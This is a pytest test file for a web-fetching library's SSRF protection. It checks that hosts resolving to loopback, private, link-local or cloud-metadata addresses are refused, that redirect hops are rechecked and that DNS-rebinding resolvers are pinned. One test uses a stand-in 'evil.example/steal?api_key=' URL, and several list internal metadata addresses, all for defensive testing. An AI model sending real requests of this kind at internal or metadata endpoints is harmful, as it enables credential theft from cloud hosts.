"""URLs that fetched content smuggles in (SSRF): refused when they resolve to our own network.

Every request through `PoliteSession` resolves its host once, refuses a host the config does not
name if any address is loopback, private, link-local, cloud metadata or otherwise not public, and
connects to the address it checked. The sample server (127.0.0.1) is a configured host.
"""

from __future__ import annotations

import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import requests
import urllib3.util.connection

from loretune.ingest import http
from loretune.ingest.http import AddressRefused, PoliteSession, SourceError, address_class
from loretune.multimodal.images import fetch_images

UA = "loretune-test/1.0"
REAL_GETADDRINFO = socket.getaddrinfo


def session(**overrides) -> PoliteSession:
    settings = dict(user_agent=UA, connect_timeout_s=2, read_timeout_s=5, max_retries=0, backoff_s=0.01,
                    max_response_bytes=1_000_000, min_interval_s=0.0, configured_hosts=["127.0.0.1"])
    return PoliteSession(**{**settings, **overrides})


class FakeDNS:
    """`socket.getaddrinfo` with names of our own: each name answers its list of addresses in turn
    (the last one from then on); numeric hosts and other names go to the real resolver."""

    def __init__(self, answers: dict[str, list[str]]):
        self.answers = answers
        self.lookups: list[str] = []

    def __call__(self, host, port, family=0, type=0, proto=0, flags=0):  # noqa: A002
        name = host.decode() if isinstance(host, bytes) else host
        if name not in self.answers:
            return REAL_GETADDRINFO(host, port, family, type, proto, flags)
        self.lookups.append(name)
        turn = self.answers[name]
        address = turn[min(self.lookups.count(name), len(turn)) - 1]
        family_ = socket.AF_INET6 if ":" in address else socket.AF_INET
        sockaddr = (address, port, 0, 0) if family_ == socket.AF_INET6 else (address, port)
        return [(family_, socket.SOCK_STREAM, 6, "", sockaddr)]


@pytest.fixture
def dns(monkeypatch) -> FakeDNS:
    fake = FakeDNS({})
    monkeypatch.setattr(socket, "getaddrinfo", fake)
    return fake


# --- which addresses --------------------------------------------------------------------------------

@pytest.mark.parametrize(("address", "why"), [
    ("127.0.0.1", "loopback"), ("127.8.9.10", "loopback"), ("::1", "loopback"), ("::ffff:127.0.0.1", "loopback"),
    ("10.0.0.1", "private"), ("172.16.5.4", "private"), ("192.168.1.1", "private"), ("fc00::1", "private"),
    ("169.254.169.254", "cloud metadata"), ("fd00:ec2::254", "cloud metadata"), ("100.100.100.200", "cloud metadata"),
    ("::ffff:169.254.169.254", "cloud metadata"), ("169.254.1.1", "link-local"), ("fe80::1%eth0", "link-local"),
    ("0.0.0.0", "unspecified"), ("::", "unspecified"), ("224.0.0.1", "multicast"), ("240.0.0.1", "reserved"),
    ("100.64.0.1", "non-public"), ("64:ff9b::7f00:1", "loopback"), ("2002:7f00:1::", "loopback"),
    ("93.184.216.34", None), ("2606:4700::6810:84e5", None),
])
def test_every_non_public_address_is_named_by_its_class(address, why):
    assert address_class(address) == why


# --- refused ----------------------------------------------------------------------------------------

def test_localhost_is_refused_when_only_127_0_0_1_is_configured(samples):
    port = samples.base_url.rsplit(":", 1)[1]
    samples.clear_log()
    client = session()
    with pytest.raises(AddressRefused, match=r"localhost resolves to .*a loopback address") as refused:
        client.get_bytes(f"http://localhost:{port}/fandom/images/Chidori.png")
    assert refused.value.transient is False
    assert refused.value.url == f"http://localhost:{port}/fandom/images/Chidori.png", \
        "the URL asked for, not its robots.txt"
    assert samples.requests == [], "nothing reached the server, not even robots.txt"
    assert client.get_bytes(f"{samples.base_url}/robots.txt"), "the configured host still works"


@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "10.0.0.1", "::1", "::ffff:127.0.0.1",
                                     "fd00:ec2::254", "0.0.0.0"])
def test_a_name_that_resolves_to_our_own_network_is_refused_and_final(dns, address):
    dns.answers["evil.example"] = [address]
    with pytest.raises(AddressRefused) as refused:
        session().get_bytes("http://evil.example/steal?api_key=s3cr3t-value")
    message = str(refused.value)
    assert refused.value.transient is False and isinstance(refused.value, SourceError)
    assert f"resolves to {address}, a {address_class(address)} address" in message
    assert message.startswith("http://evil.example/steal?[query redacted]:"), "names the URL, not its secret"
    assert "s3cr3t" not in message
    assert dns.lookups == ["evil.example"]


def test_one_private_address_among_public_ones_is_enough_to_refuse(dns):
    dns.answers["mixed.example"] = ["93.184.216.34"]
    real = dns.__call__

    def both(host, port, *args):
        if host == "mixed.example":
            return [*real(host, port, *args), (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", port))]
        return real(host, port, *args)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(socket, "getaddrinfo", both)
        with pytest.raises(AddressRefused, match="10.1.2.3, a private address"):
            session().get_bytes("http://mixed.example/x.png")


def test_a_configured_name_may_be_private_and_allowed_hosts_are_configured_too(dns, samples):
    port = samples.base_url.rsplit(":", 1)[1]
    dns.answers["wiki.internal"] = ["127.0.0.1"]
    for client in (session(configured_hosts=["wiki.internal"]), session(allowed_hosts=["WIKI.internal"])):
        assert client.get_bytes(f"http://wiki.internal:{port}/robots.txt")


def test_a_redirect_hop_is_checked_again_and_a_rebound_name_is_refused(dns, monkeypatch):
    """cdn.example is public when first asked, then answers the metadata address: the redirect to
    its own /b (same host, so `may_follow` lets it through) is resolved and checked again."""
    site = RedirectSite()
    try:
        dns.answers["cdn.example"] = ["127.0.0.1", "169.254.169.254"]
        monkeypatch.setattr(http, "address_class",  # the test site's 127.0.0.1 stands for a public address
                            lambda a, real=address_class: None if a == "127.0.0.1" else real(a))
        with pytest.raises(AddressRefused, match=r"cdn\.example resolves to 169\.254\.169\.254, a cloud metadata"
                           ) as refused:
            session(respect_robots=False).get_bytes(f"http://cdn.example:{site.port}/a")
        assert refused.value.url == f"http://cdn.example:{site.port}/b", "the hop that was refused"
        assert site.paths == ["/a"], "the first hop was fetched, the second never asked"
    finally:
        site.close()


def test_a_redirect_from_a_configured_host_to_another_private_one_is_refused(samples):
    samples.inject("/fandom/api.php", "offsite")  # a 302 to 127.0.0.2, not configured
    try:
        with pytest.raises(SourceError, match=r"redirect to http://127\.0\.0\.2:\d+/.* refused"):
            session().get_bytes(f"{samples.base_url}/fandom/api.php")
    finally:
        samples.clear_faults()


# --- the connection goes to the checked address ----------------------------------------------------

def test_the_name_is_resolved_once_and_the_connection_goes_to_that_address(dns, samples):
    """A rebinding resolver: 127.0.0.1 first, then 10.255.255.1 (a black hole). One lookup per
    request, and the request arrives, so it went to the first answer."""
    port = samples.base_url.rsplit(":", 1)[1]
    dns.answers["pinned.example"] = ["127.0.0.1", "10.255.255.1"]
    samples.clear_log()
    body = session(configured_hosts=["pinned.example"], respect_robots=False).get_bytes(
        f"http://pinned.example:{port}/robots.txt")
    assert body and dns.lookups == ["pinned.example"]
    assert [r["path"] for r in samples.requests] == ["/robots.txt"]


def test_a_name_that_rebinds_after_the_check_still_connects_to_the_checked_address(dns, monkeypatch):
    dns.answers["cdn.example"] = ["93.184.216.34", "127.0.0.1"]
    connected: list[tuple] = []

    def no_network(address, *args, **kwargs):
        connected.append(address)
        raise OSError("network unreachable (test)")

    monkeypatch.setattr(urllib3.util.connection, "create_connection", no_network)
    with pytest.raises(SourceError) as failed:
        session(respect_robots=False, max_retries=2).get_bytes("http://cdn.example/x.png")
    assert failed.value.transient, "could not connect: worth trying again later"
    assert connected and set(connected) == {("93.184.216.34", 80)}, "every attempt, retries too, to the checked address"
    assert dns.lookups == ["cdn.example"]


def test_each_checked_address_is_tried_when_the_first_cannot_be_reached(dns, samples, monkeypatch):
    port = samples.base_url.rsplit(":", 1)[1]
    real = dns.__call__

    def two(host, p, *args):
        if host == "two.example":
            dns.lookups.append(host)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.3", p)),
                    (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", p))]
        return real(host, p, *args)

    monkeypatch.setattr(socket, "getaddrinfo", two)
    client = session(configured_hosts=["two.example"], respect_robots=False)
    assert client.get_bytes(f"http://two.example:{port}/robots.txt")
    assert dns.lookups == ["two.example"]


def test_https_keeps_the_name_for_sni_and_the_certificate_check():
    adapter = PoliteSession(user_agent=UA, connect_timeout_s=1, read_timeout_s=1, max_retries=0, backoff_s=0,
                            max_response_bytes=10)._session.get_adapter("https://example.org/")
    request = requests.Request("GET", "https://example.org/x").prepare()
    request.pinned_address = "93.184.216.34"
    pool = adapter.get_connection_with_tls_context(request, verify=True)
    assert pool.host == "93.184.216.34" and pool.conn_kw["server_hostname"] == "example.org"
    assert pool.cert_reqs == "CERT_REQUIRED"


def test_the_http_cache_still_revalidates_through_the_pinned_connection(samples, tmp_path):
    url = f"{samples.base_url}/youtube/Pz4wQe8RtYk.info.json"
    body = session(cache_dir=tmp_path / "cache", respect_robots=False).get_bytes(url)
    again = session(cache_dir=tmp_path / "cache", respect_robots=False)
    assert again.get_bytes(url) == body and again.cached_responses == 1


# --- images -----------------------------------------------------------------------------------------

def test_an_image_on_an_unconfigured_private_address_is_a_final_failure_and_the_rest_are_kept(samples, tmp_path):
    port = samples.base_url.rsplit(":", 1)[1]
    good = f"{samples.base_url}/fandom/images/Chidori.png"
    smuggled = f"http://localhost:{port}/fandom/images/Chidori.png"
    records = fetch_images([smuggled, good], tmp_path, session().get_bytes, max_bytes=1_000_000,
                           max_pixels=10_000_000, log=lambda _: None)
    bad, kept = records
    assert bad.error and "loopback address" in bad.error and bad.transient is False and bad.file is None
    assert kept.error is None and (tmp_path / kept.file).is_file()


class RedirectSite:
    """/a answers 302 to /b on the same host (a relative Location); everything else 200."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                pass

            def do_GET(self) -> None:  # noqa: N802
                site.paths.append(self.path)
                self.send_response(302 if self.path == "/a" else 200)
                if self.path == "/a":
                    self.send_header("Location", "/b")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
